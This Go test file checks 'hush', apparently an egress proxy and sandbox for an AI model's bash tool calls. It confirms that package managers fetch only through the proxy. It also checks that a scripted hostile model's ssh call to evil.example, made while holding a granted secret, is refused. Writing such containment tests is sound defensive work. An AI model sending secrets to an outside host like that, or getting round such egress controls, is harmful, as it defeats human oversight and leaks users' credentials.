package tests

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"crypto/sha1"
	"crypto/sha256"
	"crypto/sha512"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/cgi"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestEverydayClientsThroughTheProxy: what a developer's tool call
// fetches — a Go module (go get from a module proxy), an npm package (npm
// install from a registry), a repository (git clone over http) and a
// Python package (pip download from a simple index) — each from a server
// on 127.0.0.1 standing for its public host, reached by a bash call in its
// own network through hush's egress proxy alone. Root and unprivileged.
// The control that the proxy is the only way: the same servers are not
// reached directly (TestEgressBindsGrantedSecrets).
func TestEverydayClientsThroughTheProxy(t *testing.T) {
	mark := canary("fetched")
	goproxy := httptest.NewServer(goModuleProxy(t, mark))
	t.Cleanup(goproxy.Close)
	registry := httptest.NewServer(nil)
	registry.Config.Handler = npmRegistry(t, "http://registry.example:"+port(registry.URL), mark)
	t.Cleanup(registry.Close)
	git := httptest.NewServer(gitBackend(t, mark))
	t.Cleanup(git.Close)
	pypi := httptest.NewServer(simpleIndex(t, mark))
	t.Cleanup(pypi.Close)
	hosts := fmt.Sprintf("goproxy.example:%s=%s,registry.example:%s=%s,github.com:%s=%s,pypi.example:%s=%s",
		port(goproxy.URL), host(goproxy.URL), port(registry.URL), host(registry.URL), port(git.URL), host(git.URL), port(pypi.URL), host(pypi.URL))
	script := fmt.Sprintf(`set -u; mkdir -p loot; w=$(mktemp -d)
( cd "$w" && GOTOOLCHAIN=local GOSUMDB=off GOFLAGS=-modcacherw GOPROXY=http://goproxy.example:%s go mod init m >/dev/null 2>&1 &&
  GOTOOLCHAIN=local GOSUMDB=off GOFLAGS=-modcacherw GOPROXY=http://goproxy.example:%s go get example.com/hello@v1.0.0 2>&1 &&
  cat "$(go env GOMODCACHE)/example.com/hello@v1.0.0/hello.go" ) > loot/go 2>&1
( cd "$w" && npm install --no-audit --no-fund --registry http://registry.example:%s/ hush-leftpad 2>&1 && cat node_modules/hush-leftpad/index.js ) > loot/npm 2>&1
( git clone -q http://github.com:%s/repo.git "$w/repo" 2>&1 && cat "$w/repo/NOTES" ) > loot/git 2>&1
( /usr/bin/python3 -m pip download --disable-pip-version-check --no-deps -q --trusted-host pypi.example --index-url http://pypi.example:%s/simple/ -d "$w/wheels" hushpkg==1.0 2>&1 &&
  /usr/bin/python3 -c "import zipfile,sys; print(zipfile.ZipFile(sys.argv[1]).read('hushpkg/__init__.py').decode())" "$w"/wheels/hushpkg-1.0-py3-none-any.whl ) > loot/pip 2>&1
echo fetched`, port(goproxy.URL), port(goproxy.URL), port(registry.URL), port(git.URL), port(pypi.URL))
	for _, a := range attackers(t) {
		t.Run(a.name, func(t *testing.T) {
			t.Parallel()
			hw := newHostileWorld(t, a)
			hw.env = append(hw.env, "HUSH_TEST_HOSTS="+hosts)
			model := hostileModel(t, fakeCall{"bash", map[string]any{"script": script, "secrets": []string{}, "timeout_seconds": 240}})
			hw.configFor(model, "\n[network]\nallow = [\"goproxy.example\", \"registry.example\", \"github.com\", \"pypi.example\"]\n")
			out, _ := hw.run(t, "fetch")
			if !strings.Contains(out, "fetched") {
				t.Fatalf("%s: the call did not run:\n%s", a.name, out)
			}
			for _, c := range []string{"go", "npm", "git", "pip"} {
				if got := hw.loot(c); !strings.Contains(got, mark) {
					t.Errorf("%s: %s through the proxy did not fetch its file:\n%s", a.name, c, got)
				}
			}
			audit := hw.audit()
			for _, h := range []string{"goproxy.example", "registry.example", "github.com", "pypi.example"} {
				if !strings.Contains(audit, `"gate":"net.connect:`+h+`","decision":"allow"`) {
					t.Errorf("%s: the audit log has no allowed connection to %s", a.name, h)
				}
			}
		})
	}
}

func port(u string) string { return u[strings.LastIndexByte(u, ':')+1:] }
func host(u string) string { return strings.TrimPrefix(u, "http://") }

// goModuleProxy serves example.com/hello v1.0.0 by the GOPROXY protocol.
func goModuleProxy(t *testing.T, mark string) http.Handler {
	mod := "module example.com/hello\n\ngo 1.21\n"
	var zb bytes.Buffer
	zw := zip.NewWriter(&zb)
	for name, body := range map[string]string{"go.mod": mod, "hello.go": "package hello\n\n// " + mark + "\nconst Hello = \"hi\"\n"} {
		f, err := zw.Create("example.com/hello@v1.0.0/" + name)
		if err != nil {
			t.Fatal(err)
		}
		io.WriteString(f, body)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	files := map[string][]byte{
		"/example.com/hello/@v/list":        []byte("v1.0.0\n"),
		"/example.com/hello/@v/v1.0.0.info": []byte(`{"Version":"v1.0.0","Time":"2026-01-01T00:00:00Z"}`),
		"/example.com/hello/@v/v1.0.0.mod":  []byte(mod),
		"/example.com/hello/@v/v1.0.0.zip":  zb.Bytes(),
		"/example.com/hello/@latest":        []byte(`{"Version":"v1.0.0","Time":"2026-01-01T00:00:00Z"}`),
	}
	return serveFiles(files)
}

// npmRegistry serves hush-leftpad 1.0.0: its packument and tarball.
func npmRegistry(t *testing.T, base, mark string) http.Handler {
	var tb bytes.Buffer
	gz := gzip.NewWriter(&tb)
	tw := tar.NewWriter(gz)
	for name, body := range map[string]string{"package/package.json": `{"name":"hush-leftpad","version":"1.0.0","main":"index.js"}`,
		"package/index.js": "// " + mark + "\nmodule.exports = s => ' ' + s;\n"} {
		if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(body))}); err != nil {
			t.Fatal(err)
		}
		io.WriteString(tw, body)
	}
	tw.Close()
	gz.Close()
	tgz := tb.Bytes()
	s1 := sha1.Sum(tgz)
	s512 := sha512.Sum512(tgz)
	packument := fmt.Sprintf(`{"name":"hush-leftpad","dist-tags":{"latest":"1.0.0"},"versions":{"1.0.0":{"name":"hush-leftpad","version":"1.0.0","main":"index.js",`+
		`"dist":{"tarball":"%s/hush-leftpad/-/hush-leftpad-1.0.0.tgz","shasum":"%s","integrity":"sha512-%s"}}}}`,
		base, hex.EncodeToString(s1[:]), base64.StdEncoding.EncodeToString(s512[:]))
	return serveFiles(map[string][]byte{"/hush-leftpad": []byte(packument), "/hush-leftpad/-/hush-leftpad-1.0.0.tgz": tgz})
}

// gitBackend serves repo.git, holding NOTES with mark, through git
// http-backend.
func gitBackend(t *testing.T, mark string) http.Handler {
	backend := "/usr/lib/git-core/git-http-backend"
	if _, err := os.Stat(backend); err != nil {
		t.Fatalf("git http-backend is not installed (%v)", err)
	}
	root := t.TempDir()
	work := filepath.Join(root, "work")
	run := func(dir string, args ...string) {
		t.Helper()
		cmd := exec.Command("git", args...)
		cmd.Dir = dir
		cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + root, "GIT_CONFIG_NOSYSTEM=1", "GIT_AUTHOR_NAME=a", "GIT_AUTHOR_EMAIL=a@example.com",
			"GIT_COMMITTER_NAME=a", "GIT_COMMITTER_EMAIL=a@example.com"}
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	if err := os.MkdirAll(work, 0o755); err != nil {
		t.Fatal(err)
	}
	run(work, "init", "-q", "-b", "main")
	if err := os.WriteFile(filepath.Join(work, "NOTES"), []byte(mark+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	run(work, "add", "NOTES")
	run(work, "commit", "-qm", "notes")
	run(root, "clone", "-q", "--bare", work, filepath.Join(root, "repo.git"))
	return &cgi.Handler{Path: backend, Env: []string{"GIT_PROJECT_ROOT=" + root, "GIT_HTTP_EXPORT_ALL=1"}}
}

// simpleIndex serves hushpkg 1.0 as a wheel by PEP 503.
func simpleIndex(t *testing.T, mark string) http.Handler {
	var wb bytes.Buffer
	zw := zip.NewWriter(&wb)
	var record strings.Builder
	for _, f := range []struct{ name, body string }{
		{"hushpkg/__init__.py", "# " + mark + "\n"},
		{"hushpkg-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: hushpkg\nVersion: 1.0\n"},
		{"hushpkg-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: hush-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"},
	} {
		w, err := zw.Create(f.name)
		if err != nil {
			t.Fatal(err)
		}
		io.WriteString(w, f.body)
		sum := sha256.Sum256([]byte(f.body))
		fmt.Fprintf(&record, "%s,sha256=%s,%d\n", f.name, base64.RawURLEncoding.EncodeToString(sum[:]), len(f.body))
	}
	record.WriteString("hushpkg-1.0.dist-info/RECORD,,\n")
	w, _ := zw.Create("hushpkg-1.0.dist-info/RECORD")
	io.WriteString(w, record.String())
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(wb.Bytes())
	index := fmt.Sprintf(`<!DOCTYPE html><html><body><a href="/files/hushpkg-1.0-py3-none-any.whl#sha256=%s">hushpkg-1.0-py3-none-any.whl</a></body></html>`, hex.EncodeToString(sum[:]))
	return serveFiles(map[string][]byte{"/simple/hushpkg/": []byte(index), "/files/hushpkg-1.0-py3-none-any.whl": wb.Bytes()})
}

func serveFiles(files map[string][]byte) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, ok := files[r.URL.Path]
		if !ok {
			http.NotFound(w, r)
			return
		}
		if strings.HasSuffix(r.URL.Path, "/") {
			w.Header().Set("Content-Type", "text/html")
		}
		w.Write(b)
	})
}

// sshServer answers each connection with an SSH identification line and
// keeps every byte the client sent: enough to see an ssh client arrive,
// and where.
func sshServer(t *testing.T) *rawServer {
	t.Helper()
	return listenKeeping(t, func(c net.Conn) []byte {
		io.WriteString(c, "SSH-2.0-hushtest\r\n")
		_ = c.SetReadDeadline(time.Now().Add(2 * time.Second))
		b, _ := io.ReadAll(io.LimitReader(c, 64<<10))
		return b
	})
}

// TestSSHThroughHushConnect: ssh, which cannot use an HTTP proxy, reaches
// an allowed host through `hush __connect` as its ProxyCommand, from a
// call holding a secret bound to that host; the same call's ssh to
// evil.example is refused at the proxy and its listener reads no byte.
// Root and unprivileged.
func TestSSHThroughHushConnect(t *testing.T) {
	if _, err := exec.LookPath("ssh"); err != nil {
		t.Skip("needs ssh: the openssh-client package")
	}
	for _, a := range attackers(t) {
		t.Run(a.name, func(t *testing.T) {
			t.Parallel()
			hw := newHostileWorld(t, a)
			github, evil := sshServer(t), sshServer(t)
			hw.env = append(hw.env, "HUSH_TEST_HOSTS=github.com:"+port(github.addr())+"="+github.addr()+",evil.example:"+port(evil.addr())+"="+evil.addr())
			ssh := `ssh -F /dev/null -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=10 -o ProxyCommand="$HUSH_BIN __connect %h %p"`
			script := ssh + ` -p ` + port(github.addr()) + ` git@github.com true > loot/ssh-github 2>&1
` + ssh + ` -p ` + port(evil.addr()) + ` git@evil.example true > loot/ssh-evil 2>&1
echo tunnelled`
			if err := os.MkdirAll(filepath.Join(hw.project, "loot"), 0o755); err != nil {
				t.Fatal(err)
			}
			model := hostileModel(t, fakeCall{"bash", map[string]any{"script": script, "env": map[string]string{"T": "${GRANTED}", "HUSH_BIN": hw.bin}}})
			hw.configFor(model, "\n[secrets.GRANTED]\nhosts = [\"github.com\"]\n")
			out, _ := hw.run(t, "ssh")
			if !strings.Contains(out, "tunnelled") {
				t.Fatalf("%s: the call did not run:\n%s", a.name, out)
			}
			if n, raw := github.seen(); n == 0 || !strings.Contains(raw, "SSH-2.0-") {
				t.Errorf("%s: positive control: ssh did not reach github.com through hush __connect (%d connections, %q):\n%s", a.name, n, raw, hw.loot("ssh-github"))
			}
			if n, raw := evil.seen(); n != 0 || raw != "" {
				t.Errorf("%s: ssh from a call holding a secret reached evil.example (%d connections, %q)", a.name, n, raw)
			}
			if got := hw.loot("ssh-evil"); !strings.Contains(got, "hush refused") && !strings.Contains(got, "403") {
				t.Errorf("%s: ssh to evil.example did not say hush refused it: %q", a.name, got)
			}
		})
	}
}
